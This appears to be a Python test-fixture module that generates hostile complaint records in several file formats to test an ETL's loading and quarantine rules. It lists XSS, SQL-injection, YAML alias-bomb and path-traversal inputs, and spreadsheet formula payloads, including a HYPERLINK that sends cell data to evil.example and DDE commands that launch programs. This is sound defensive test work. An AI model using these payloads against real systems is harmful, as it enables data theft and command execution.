"""A corpus of nasty records, and writers that put it into every file shape the ETL reads.

Each record is a logical complaint (id, store, platform, entity, filed, closed, status, category,
amount, issue, narrative) with what must become of it: loaded, or quarantined with a column. The
writers turn the same records into CSV (UTF-8, UTF-8 with BOM, GB18030, mixed), JSON, NDJSON and
CFPB-shaped CSV and API JSON, so every way in meets the same corpus.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field, replace
from typing import Any

MARKUP = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">店铺',
    "**bold** [click](javascript:alert(1)) `code` # heading | a | b |",
    "</td></tr><iframe src=//evil.example></iframe>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
]
SQL = [
    "'; DROP TABLE complaints; --",
    "Robert'); DROP TABLE merchants;--",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "x'||(SELECT version())||'",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    # full-width and small forms, which East Asian spreadsheets take as = + - @ (issue 18)
    '＝HYPERLINK("http://evil.example","点击")',
    "＋1+cmd|' /C calc'!A0",
    "－2+3",
    "＠SUM(1+1)",
    "﹦1+1",
]
UNICODE = [
    "😀🛒💥 emoji store 👨‍👩‍👧",
    "متجر الإلكترونيات الرسمي",
    "חנות שלום",
    "abc\u202edcba\u202c safe",
    "\u2066isolated\u2069 text",
    "e\u0301\u0301\u0301 zalgo",
    "店铺\u200b零宽空格",
    "𠜎𠜱𠝹 rare CJK",
    "\ufeffBOM inside",
]
CONTROL = [
    "before\x00after NUL",
    "bell\x07 back\x08space",
    "esc\x1b[31mred\x1b[0m",
    "c1 controls\x85\x9b",
    "tab\tand\nnewline\r\nCRLF",
    "\x00=formula behind NUL",
]
# Mapping files: 10 levels of 9 YAML aliases, 9**10 (3.5 billion) leaves once expanded, in < 600 bytes
YAML_ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)
LONG = ["长" * 100_000, "A" * 200_000]
# Personal data in the forms that slipped through masking (issue 18), and a run of digit groups that
# made the card search cubic
PII_FORMS = [
    "Tel13812345678",
    "ID440306198512120042",
    "wx13812345678",
    "138.1234.5678",
    "138/1234/5678",
    "4111.1111.1111.1111",
    "440306 1985 1212 0042",
    "zhang.san @ example.com",
    "zhang (at) qq . com",
    "用户@例子.中国",
    "me@bücher.de",
    "一三八一二三四五六七八",
    "1 " * 5_000,
]
TEXTS = MARKUP + SQL + FORMULAS + UNICODE + CONTROL + LONG + PII_FORMS
# Names past the load's bound (NAME_MAX_CHARS, 500) are quarantined: one 2 M-character name made
# every store search run for minutes. ㍿ is one character that NFKC makes four (株式会社).
LONG_NAMES = ["名" * 2_000_000, "N" * 501, "㍿" * 130]
NAME_CHARS = 400  # the store and entity names of the TEXTS records are cut to this (within the bound)
# Record ids that are personal data: published only as their hash (etl.ids.public_record_id)
PERSONAL_IDS = ["13812345678", "zhang.san@qq.com", "440306198512120042", "Tel138.1234.5678"]


@dataclass(frozen=True)
class Hostile:
    label: str
    fields: dict[str, str]
    # None: loaded; else the column it is quarantined under (per way in when they differ)
    file_fate: str | None = None
    cfpb_fate: str | None = None
    raw_bytes: dict[str, bytes] = field(default_factory=dict)  # cells written as raw bytes (CSV only)
    line_encoding: str | None = None  # CSV only: this line in another encoding than the file


BASE = {
    "id": "",
    "store": "Plain store",
    "platform": "淘宝",
    "entity": "",
    "filed": "2024-03-05 10:15:00",
    "closed": "2024-03-09 18:40:00",
    "status": "已完成",
    "category": "质量问题",
    "amount": "12.50",
    "issue": "quality",
    "narrative": "plain narrative",
}


def _record(label: str, file_fate: str | None = None, cfpb_fate: str | None = None, **fields: str) -> Hostile:
    return Hostile(label, {**BASE, "id": f"H-{label}", **fields}, file_fate, cfpb_fate)


def corpus() -> list[Hostile]:
    """Every hostile record, each with a distinct id (the duplicates on purpose excepted)."""
    records: list[Hostile] = []
    for index, text in enumerate(TEXTS):
        # the same text as store name, legal entity, issue and narrative: one store per text
        name = text[:NAME_CHARS]
        records.append(
            _record(f"text{index:02d}", store=f"{name} #{index}", entity=name, issue=text, narrative=text)
        )
    for index, name in enumerate(LONG_NAMES):
        # the store is quarantined, so is the complaint; CFPB names the store and entity alike
        records.append(_record(f"long_store{index}", "merchant_id", "merchant_id", store=name))
        own_store = f"Store of a long-named company #{index}"  # a store with a valid company stays valid
        records.append(_record(f"long_entity{index}", "merchant_id", None, store=own_store, entity=name))
    for index, text in enumerate(SQL + FORMULAS[:2] + PERSONAL_IDS):
        records.append(Hostile(f"id{index}", {**BASE, "id": text}))
    amounts = {
        "1e308": "amount_claimed",
        "NaN": "amount_claimed",
        "Infinity": "amount_claimed",
        "-0": None,
        "1" + "0" * 30: "amount_claimed",
        "-12.50": "amount_claimed",
        "¥1,299.00": None,
        "0.001": None,
        "1e-308": None,
        "12,50,0.0.1": "amount_claimed",
        "999999999999.99": None,
        "1000000000000.01": "amount_claimed",
    }
    for index, (amount, fate) in enumerate(amounts.items()):
        records.append(_record(f"amount{index:02d}", fate, None, amount=amount))
    filed = {
        "0001-01-01 00:00:00": "filed_at",
        "9999-12-31 23:59:59": "filed_at",
        "1970-01-01 00:00:00": "filed_at",
        "2024-02-30 10:00:00": "filed_at",
        "yesterday": "filed_at",
        "": "filed_at",
        "2024-03-05": None,
    }
    for index, (when, fate) in enumerate(filed.items()):
        # CFPB dates are days; the same calendar days are tried there
        records.append(_record(f"filed{index}", fate, fate, filed=when, closed=""))
    records.append(_record("closed_before_filed", "closed_at", None, closed="2024-03-01 00:00:00"))
    records.append(_record("closed_far_future", "closed_at", None, closed="9999-12-31 23:59:59"))
    records.append(_record("closed_year_one", "closed_at", None, closed="0001-01-01 00:00:00"))
    records.append(_record("unknown_status", "status", "status", status="待审核"))
    records.append(_record("no_store", "merchant_id", "merchant_id", store=""))
    records.append(_record("store_only_controls", "merchant_id", "merchant_id", store="\x00\x01\x02"))
    # duplicate ids with different content: the earlier is quarantined, the last one loaded
    records.append(_record("dup", "complaint_id", "complaint_id", narrative="first version"))
    records.append(_record("dup", None, None, narrative="second version, different"))
    return records


def bytes_records() -> list[Hostile]:
    """Records only a byte-level file can carry: invalid UTF-8, and a GB18030 line in a UTF-8 file."""
    return [
        Hostile(
            "badbytes", {**BASE, "id": "H-badbytes"}, "narrative", None, {"narrative": b"ok \xff\xfe\xc3\x28"}
        ),
        Hostile(
            "gb_line", {**BASE, "id": "H-gbline", "narrative": "国标编码的投诉"}, line_encoding="gb18030"
        ),
    ]


def expected_text(text: str) -> str:
    """What the load path stores for a cell: stripped by the mapper, then the text policy."""
    from etl.text import clean_text

    return clean_text(text.strip())


# -- file import ------------------------------------------------------------------------------

COLUMNS = list(BASE)


def mapping(file_format: str, source_id: str = "hostile") -> dict[str, Any]:
    return {
        "source": {"id": source_id, "name": "Hostile corpus", "publisher": "tests", "is_synthetic": True},
        "target": "complaints",
        "format": file_format,
        "timezone": "Asia/Shanghai",
        "date_formats": ["%Y-%m-%d %H:%M:%S", "%Y-%m-%d"],
        "record_id": "id",
        "store": {
            "key": ["platform", "store"],
            "name": "store",
            "platform_column": "platform",
            "entity": "entity",
        },
        "columns": {
            "filed_at": "filed",
            "closed_at": "closed",
            "status": "status",
            "issue": "issue",
            "narrative": "narrative",
            "amount_claimed": "amount",
            "category": "category",
        },
        "constants": {"currency": "CNY"},
        "values": {"status": {"已完成": "resolved", "处理中": "open"}},
        "keywords": {"category": {"质量": "quality"}},
        "defaults": {"category": "other"},
    }


def csv_bytes(records: list[Hostile], encoding: str = "utf-8", bom: bool = False) -> bytes:
    """CSV in `encoding`; cells given as raw bytes are spliced in as they are."""
    out = io.BytesIO()
    if bom:
        out.write(b"\xef\xbb\xbf")
    header = io.StringIO()
    csv.writer(header, lineterminator="\r\n").writerow(COLUMNS)
    out.write(header.getvalue().encode(encoding))
    for record in records:
        cells: list[bytes] = []
        for column in COLUMNS:
            if column in record.raw_bytes:
                cells.append(record.raw_bytes[column])
                continue
            cell = io.StringIO()
            csv.writer(cell, lineterminator="", quoting=csv.QUOTE_ALL).writerow([record.fields[column]])
            cells.append(cell.getvalue().encode(record.line_encoding or encoding))
        out.write(b",".join(cells) + b"\r\n")
    return out.getvalue()


def json_text(records: list[Hostile]) -> str:
    return json.dumps([record.fields for record in records], ensure_ascii=False)


def ndjson_text(records: list[Hostile]) -> str:
    return "\n".join(json.dumps(record.fields, ensure_ascii=False) for record in records) + "\n"


def json_only_records() -> list[tuple[Any, str | None]]:
    """Values only JSON can carry, with the column each is quarantined under (None: loaded)."""
    surrogate = {**BASE, "id": "H-surrogate", "narrative": "lone \ud800 surrogate"}
    return [
        (surrogate, "narrative"),
        ({**BASE, "id": "H-numbers", "amount": 1e308}, "amount_claimed"),
        ({**BASE, "id": "H-nan", "amount": float("nan")}, "amount_claimed"),
        ({**BASE, "id": "H-bigint", "amount": 10**30}, "amount_claimed"),
        ({**BASE, "id": "H-negzero", "amount": -0.0}, None),
        ({**BASE, "id": "H-nested", "narrative": {"a": [1, 2, {"b": None}]}}, None),
        ({**BASE, "id": "H-bool", "amount": True}, "amount_claimed"),
        ({**BASE, "id": 12345, "narrative": "numeric id"}, None),
        ([1, 2, 3], None),  # not an object: quarantined with no column
        ("just a string", None),
        (None, None),
    ]


# -- CFPB-shaped ------------------------------------------------------------------------------

CFPB_CSV_HEADER = [
    "Date received",
    "Product",
    "Issue",
    "Consumer complaint narrative",
    "Company",
    "Consumer consent provided?",
    "Date sent to company",
    "Company response to consumer",
    "Timely response?",
    "Complaint ID",
]
_CFPB_STATUS = {"已完成": "Closed with explanation", "处理中": "In progress"}


def cfpb_source(record: Hostile) -> dict[str, Any]:
    """The record as a CCDB API `_source` (dates as days, status as a company response)."""
    f = record.fields
    return {
        "date_received": f["filed"][:10] if f["filed"] else "",
        "product": "Credit card",
        "issue": f["issue"],
        "complaint_what_happened": f["narrative"],
        "company": f["store"],
        "consumer_consent_provided": "Consent provided",
        "date_sent_to_company": f["filed"][:10] if f["filed"] else "",
        "company_response": _CFPB_STATUS.get(f["status"], f["status"]),
        "timely": "Yes",
        "complaint_id": f["id"],
    }


def cfpb_csv_text(records: list[Hostile]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(CFPB_CSV_HEADER)
    for record in records:
        source = cfpb_source(record)
        writer.writerow(
            [
                source["date_received"],
                source["product"],
                source["issue"],
                source["complaint_what_happened"],
                source["company"],
                source["consumer_consent_provided"],
                source["date_sent_to_company"],
                source["company_response"],
                source["timely"],
                source["complaint_id"],
            ]
        )
    return out.getvalue()


def cfpb_records(records: list[Hostile]) -> list[Hostile]:
    """The corpus as CFPB can carry it: CFPB has no amounts or closing dates, so those are dropped."""
    kept = []
    for record in records:
        if record.label.startswith(("amount", "closed_")):
            continue
        kept.append(replace(record))
    return kept


# `export --out` targets inside the data directory, written relative to it, that must be refused:
# the served version ({served} is its file name), its pointer, the journal, the raw archive, a path
# that climbs out and back in, and (tests/test_version_safety.py) a symlink from outside to the served file.
DATA_DIR_OUTPUTS = [
    "warehouses/main/{served}",
    "warehouses/main/CURRENT",
    "warehouses/main/runs/journal.json",
    "raw/extract.csv",
    "warehouses/../warehouses/main/extract.csv",
    "extract.csv",
]
